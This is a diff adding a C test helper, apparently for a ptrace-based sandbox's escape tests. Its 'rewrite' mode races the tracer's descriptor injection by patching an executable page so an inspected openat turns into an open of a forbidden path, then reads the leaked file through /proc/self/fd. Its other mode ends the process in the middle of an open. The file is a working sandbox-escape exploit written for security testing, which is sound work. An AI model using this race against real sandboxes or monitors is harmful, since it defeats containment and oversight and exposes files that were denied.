@@ -1,0 +1,152 @@
+/* inject_race: a program that attacks the ptrace backend's descriptor
+ * injection (tests/test_escape_tracer.py).
+ *
+ *   inject_race rewrite LINK N   N times: open /etc/hostname through a
+ *                                `syscall` instruction at a fixed page X of
+ *                                its own; a second thread waits until the
+ *                                tracer's injected socketpair appears, then
+ *                                rewrites X into a jump to an open of LINK.
+ *                                Prints "LEAK:<line>" when an open gave
+ *                                LINK's file, "tries=N" at the end
+ *   inject_race exit-during-open US  the main thread opens and closes a file
+ *                                in a loop; another thread ends the process
+ *                                (exit_group(0)) after US microseconds */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <limits.h>
+#include <pthread.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#define X 0x10000000UL
+static volatile unsigned char *page;
+static volatile int armed, watched;
+
+/* X: syscall; ret. X+16: openat(AT_FDCWD, link, O_RDONLY); ret. */
+static void write_code(const char *link)
+{
+    static const unsigned char at_x[] = { 0x0F, 0x05, 0xC3 };
+    unsigned char payload[] = {
+        0x48, 0xC7, 0xC0, 0x01, 0x01, 0x00, 0x00,          /* mov rax, 257 (openat) */
+        0x48, 0xC7, 0xC7, 0x9C, 0xFF, 0xFF, 0xFF,          /* mov rdi, -100 */
+        0x48, 0xBE, 0, 0, 0, 0, 0, 0, 0, 0,                /* movabs rsi, link */
+        0x31, 0xD2,                                        /* xor edx, edx */
+        0x4D, 0x31, 0xD2,                                  /* xor r10, r10 */
+        0x0F, 0x05, 0xC3,                                  /* syscall; ret */
+    };
+    uint64_t where = X + 256;
+    memcpy(payload + 16, &where, sizeof(where));
+    memcpy((void *)page, at_x, sizeof(at_x));
+    memcpy((void *)(page + 16), payload, sizeof(payload));
+    strcpy((char *)page + 256, link);
+}
+
+static long open_at_x(const char *path)
+{
+    long rax = SYS_openat;
+    register long r10 __asm__("r10") = 0;
+    __asm__ volatile("call *%[x]"
+                     : "+a"(rax)
+                     : [x] "r"(X), "D"((long)AT_FDCWD), "S"(path), "d"((long)O_RDONLY),
+                       "r"(r10)
+                     : "rcx", "r11", "memory");
+    return rax;
+}
+
+static void *rewriter(void *arg)
+{
+    (void)arg;
+    for (;;) {
+        while (!armed)
+            ;
+        int want = watched;
+        while (armed && fcntl(want, F_GETFD) < 0)
+            ;
+        if (armed) {
+            page[0] = 0xEB;                            /* jmp X+16 */
+            page[1] = 0x0E;
+        }
+        while (armed)
+            ;
+    }
+    return NULL;
+}
+
+static int rewrite(const char *link, int tries)
+{
+    char target[PATH_MAX];
+    if (!realpath(link, target))
+        snprintf(target, sizeof(target), "%s", link);   /* refused to us: its name then */
+    page = mmap((void *)X, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
+                MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+    if (page == MAP_FAILED) {
+        perror("mmap");
+        return 1;
+    }
+    write_code(link);
+    pthread_t t;
+    pthread_create(&t, NULL, rewriter, NULL);
+    int i;
+    for (i = 0; i < tries; i++) {
+        page[0] = 0x0F;                                /* syscall again */
+        page[1] = 0x05;
+        int probe = dup(0);                            /* the next free number */
+        close(probe);
+        watched = probe;
+        armed = 1;
+        long fd = open_at_x("/etc/hostname");
+        armed = 0;
+        if (fd >= 0)
+            close((int)fd);
+        /* whatever the payload's open left in the table (its result went
+         * to the tracer, not to us) */
+        for (int n = 3; n < 256; n++) {
+            char name[32], to[PATH_MAX];
+            snprintf(name, sizeof(name), "/proc/self/fd/%d", n);
+            ssize_t len = readlink(name, to, sizeof(to) - 1);
+            if (len <= 0)
+                continue;
+            to[len] = '\0';
+            if (strcmp(to, target) == 0) {
+                char line[128] = "";
+                ssize_t got = pread(n, line, sizeof(line) - 1, 0);
+                line[got > 0 ? got : 0] = '\0';
+                line[strcspn(line, "\n")] = '\0';
+                printf("LEAK:%s\n", line);
+                close(n);
+            }
+        }
+    }
+    printf("tries=%d\n", i);
+    return 0;
+}
+
+static void *ender(void *arg)
+{
+    usleep((useconds_t)(uintptr_t)arg);
+    syscall(SYS_exit_group, 0);
+    return NULL;
+}
+
+int main(int argc, char **argv)
+{
+    setvbuf(stdout, NULL, _IONBF, 0);
+    if (argc == 4 && strcmp(argv[1], "rewrite") == 0)
+        return rewrite(argv[2], atoi(argv[3]));
+    if (argc == 3 && strcmp(argv[1], "exit-during-open") == 0) {
+        pthread_t t;
+        pthread_create(&t, NULL, ender, (void *)(uintptr_t)atol(argv[2]));
+        for (;;) {
+            int fd = open("/etc/hostname", O_RDONLY | O_CLOEXEC);
+            if (fd >= 0)
+                close(fd);
+        }
+    }
+    fprintf(stderr, "usage: see the comment at the top\n");
+    return 2;
+}
